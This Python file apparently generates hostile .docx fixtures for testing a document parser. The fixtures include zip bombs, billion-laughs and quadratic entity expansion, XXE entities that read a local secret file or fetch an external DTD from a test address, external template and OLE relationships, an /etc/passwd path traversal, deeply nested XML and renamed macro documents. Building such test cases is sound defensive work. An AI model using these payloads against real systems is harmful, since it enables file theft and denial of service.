"""Word documents that unpack to too much, reach out of themselves, or aren't whole."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

from hostile import EITHER, Hostile
from hostile_archives import TOO_MUCH, good_document
from raw_zip import MEGABYTE, Member, Packed, archive, archive_of, packed, repeated, stored

WORD = "Word document"
MAIN, TYPES, RELS = "word/document.xml", "[Content_Types].xml", "word/_rels/document.xml.rels"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
LAUGHS = "".join(
    f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "法治"}">' for n in range(10)
)  # the last is 10^9 times the first


def documents(secret: Path, address: str) -> Iterator[Hostile]:
    """All hostile documents; they try to read ``secret`` and to fetch from ``address``."""
    yield from _bombs()
    yield from _entities(secret, address)
    yield from _deep_and_wide()
    yield from _broken()


def body(inside: str, doctype: str = "") -> bytes:
    """A main part around some XML."""
    return f"{XML}{doctype}<w:document {W}><w:body>{inside}</w:body></w:document>".encode()


def said(words: str) -> str:
    """One paragraph."""
    return f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"


def document(year: int = 1999, **parts: bytes) -> bytes:
    """The good document of a year with parts replaced: main, styles, numbering, rels."""
    names = {"main": MAIN, "types": TYPES, "rels": RELS}
    named = {names.get(name, f"word/{name}.xml"): data for name, data in parts.items()}
    return archive_of({**good_document(year), **named})


def _bombs() -> Iterator[Hostile]:
    start = f"{XML}<w:document {W}><w:body><w:p><w:r><w:t>".encode()
    end = b"</w:t></w:r></w:p></w:body></w:document>"
    blanks = repeated(b" " * MEGABYTE, 5120, start, end)
    yield Hostile("blanks.docx", WORD, "unpacks to 5 GB", says=TOO_MUCH, data=_with_main(blanks))
    unit = b"</w:t></w:r></w:p><w:p><w:r><w:t>" * 25_000
    yield Hostile(
        "paragraphs.docx", WORD, "20 million empty paragraphs", EITHER,
        data=_with_main(repeated(unit, 800, start, end)),
    )  # fmt: skip
    picture = Member(b"word/media/image1.png", repeated(bytes(MEGABYTE), 1024))
    parts = [Member(name.encode(), packed(data)) for name, data in good_document(2003).items()]
    yield Hostile(
        "picture.docx", WORD, "a picture of 1 GB that nobody reads", EITHER,
        data=archive([*parts, picture]),
    )  # fmt: skip


def _with_main(main: Packed) -> bytes:
    parts = good_document()
    rest = [Member(name.encode(), packed(data)) for name, data in parts.items() if name != MAIN]
    return archive([*rest, Member(MAIN.encode(), main)])


def _entities(secret: Path, address: str) -> Iterator[Hostile]:
    laughs = f"<!DOCTYPE w:document [{LAUGHS}]>"
    data = document(main=body(said("&l9;"), laughs))
    yield Hostile("laughs.docx", WORD, "entities that grow to 6 GB", EITHER, data=data)
    long = f'<!DOCTYPE w:document [<!ENTITY a "{"法" * 100_000}">]>'
    data = document(main=body(said("&a;" * 50_000), long))
    yield Hostile("quadratic.docx", WORD, "one long entity 50,000 times", EITHER, data=data)
    for name, where in (("file", secret.as_uri()), ("web", f"{address}/xxe.txt")):
        outside = f'<!DOCTYPE w:document [<!ENTITY x SYSTEM "{where}">]>'
        data = document(main=body(said("法治1&x;"), outside))
        yield Hostile(f"entity_{name}.docx", WORD, f"an entity is {where}", EITHER, data=data)
    outside = f'<!DOCTYPE a [<!ENTITY % x SYSTEM "{address}/evil.dtd">%x;]>'
    data = document(
        main=body(said("法治2"), outside.replace("<!DOCTYPE a", "<!DOCTYPE w:document"))
    )
    yield Hostile("parameter_entity.docx", WORD, "a DTD from the web", EITHER, data=data)
    rels = good_document()[RELS]
    relation = (
        f'<!DOCTYPE Relationships [<!ENTITY x SYSTEM "{secret.as_uri()}">]><Relationships xmlns='
        '"http://schemas.openxmlformats.org/package/2006/relationships">&x;'
    ).encode()
    start = rels.index(b"<Relationships")
    data = document(2001, rels=rels[:start] + relation + rels[rels.index(b">", start) + 1 :])
    yield Hostile("entity_in_relations.docx", WORD, "an entity in a side part", EITHER, data=data)
    yield _outside_relations(rels, secret, address)


def _outside_relations(rels: bytes, secret: Path, address: str) -> Hostile:
    kinds = {
        "attachedTemplate": f"{address}/t.dotm",
        "image": f"{address}/i.png",
        "oleObject": f"{address}/o",
        "frame": secret.as_uri(),
        "subDocument": secret.as_uri(),
        "footnotes": "../../../../../etc/passwd",
    }
    links = "".join(
        f'<Relationship Id="x{n}" Type="{RELATIONS}/{kind}" Target="{to}" TargetMode="External"/>'
        for n, (kind, to) in enumerate(kinds.items())
    )
    data = document(
        2002, rels=rels.replace(b"</Relationships>", f"{links}</Relationships>".encode())
    )
    return Hostile("template.docx", WORD, "a template and more from the web", EITHER, data=data)


def _deep_and_wide() -> Iterator[Hostile]:
    run = "w:r"
    nested = f"<w:p>{f'<{run}>' * 1_000_000}法治3{f'</{run}>' * 1_000_000}</w:p>"
    data = document(main=body(nested))
    yield Hostile("nested.docx", WORD, "a million nested elements", EITHER, data=data)
    start, end = "<w:tbl><w:tr><w:tc>", "<w:p/></w:tc></w:tr></w:tbl>"
    data = document(main=body(start * 60 + said("法治4") + end * 60))
    yield Hostile("tables.docx", WORD, "sixty tables, each in the other", EITHER, data=data)
    cell = f'<w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr>{said("法治5")}</w:tc>'
    data = document(main=body(f"<w:tbl><w:tr>{cell}</w:tr></w:tbl>"))
    yield Hostile("wide_cell.docx", WORD, "a cell over a billion columns", EITHER, data=data)
    attributes = " ".join(f'w:a{n}="法治"' for n in range(40_000))
    data = document(main=body(f"<w:p {attributes}/>{said('法治6')}"))
    yield Hostile("attributes.docx", WORD, "40,000 attributes", EITHER, data=data)
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="{one}"><w:basedOn w:val="{other}"/></w:style>'
        for one, other in (("A", "B"), ("B", "A"))
    )
    styled = '<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:t>法治7</w:t></w:r></w:p>'
    data = document(main=body(styled), styles=f"{XML}<w:styles {W}>{styles}</w:styles>".encode())
    yield Hostile("style_cycle.docx", WORD, "two styles based on each other", EITHER, data=data)
    yield _counted()


def _counted() -> Hostile:
    """Numbers of headings that are too big to write, and texts of numbers too long to repeat."""
    levels = (
        ("0", "chineseCountingThousand", "9" * 30, "%1、"),
        ("1", "upperRoman", "2000000000", "%1.%2.%9"),
        ("2", "decimal", "-1", "%3" * 20_000),
        ("3", "nonsense", "x", "%0%%4"),
    )
    inside = "".join(
        f'<w:lvl w:ilvl="{n}"><w:start w:val="{start}"/><w:numFmt w:val="{kind}"/>'
        f'<w:lvlText w:val="{words}"/></w:lvl>'
        for n, kind, start, words in levels
    )
    numbering = (
        f'{XML}<w:numbering {W}><w:abstractNum w:abstractNumId="0">{inside}</w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
    )
    paragraphs = "".join(
        f'<w:p><w:pPr><w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="1"/></w:numPr></w:pPr>'
        "<w:r><w:t>法治</w:t></w:r></w:p>"
        for level in (0, 1, *[2] * 3_000, 3, 8, 999_999_999, -1)
    )
    data = document(main=body(paragraphs), numbering=numbering.encode())
    return Hostile("numbering.docx", WORD, "numbers nobody can write", EITHER, data=data)


def _broken() -> Iterator[Hostile]:
    parts = good_document()
    whole = archive_of(parts)
    half = whole[: len(whole) // 2]
    yield Hostile("truncated.docx", WORD, "the second half is missing", data=half)
    untyped = archive_of({n: data for n, data in good_document(2004).items() if n != TYPES})
    yield Hostile("untyped.docx", WORD, "without [Content_Types].xml", EITHER, data=untyped)
    empty = archive_of({name: data for name, data in parts.items() if name != MAIN})
    yield Hostile("no_main.docx", WORD, "without its main part", data=empty)
    macros = parts[TYPES].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    with_macros = archive_of(
        {**good_document(2005), TYPES: macros, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}
    )
    yield Hostile("macros.docx", WORD, "a .docm renamed", EITHER, data=with_macros)
    cut = document(main=body(said("法治8"))[:-30])
    yield Hostile("cut_xml.docx", WORD, "its XML ends too early", EITHER, data=cut)
    silent = document(main=body("<w:p/>" * 100))
    yield Hostile("silent.docx", WORD, "no words at all", data=silent)
    picture = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(5_000)
    yield Hostile("picture_named.docx", WORD, "a PNG by another name", data=picture)
    locked = archive([Member(b"EncryptedPackage", stored(bytes(500))), *_encrypted(parts)])
    yield Hostile(
        "encrypted_parts.docx", WORD, "its parts need a password", says="(?i)password|locked",
        data=locked,
    )  # fmt: skip


def _encrypted(parts: dict[str, bytes]) -> Iterator[Member]:
    for name, data in parts.items():
        yield Member(name.encode(), packed(data), flags=1)
